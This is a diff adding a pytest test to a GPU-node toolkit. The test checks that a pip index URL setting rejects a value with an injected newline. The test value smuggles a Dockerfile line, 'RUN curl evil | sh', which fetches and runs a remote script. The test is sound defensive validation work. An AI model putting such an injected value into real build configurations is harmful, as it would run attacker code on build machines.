@@ -448,3 +448,13 @@ def test_a_huge_value_is_echoed_cut_short(
     code, _out, err = gpunode(capsys, "stack", "check", str(path))
     assert code == 2 and "stack.driver.version" in err
     assert len(err) < 2000
+
+
+def test_pip_source_urls_follow_the_url_rule() -> None:
+    from toolkit.images.recipe import _url_var
+
+    values = {"gpunode_pip_index_url": "https://pypi.example/simple\nRUN curl evil | sh"}
+    with pytest.raises(ConfigError, match="gpunode_pip_index_url"):
+        _url_var(values, "gpunode_pip_index_url", "group_vars/all")
+    ok = {"gpunode_pip_index_url": "https://pypi.example/simple"}
+    assert _url_var(ok, "gpunode_pip_index_url", "x") == "https://pypi.example/simple"
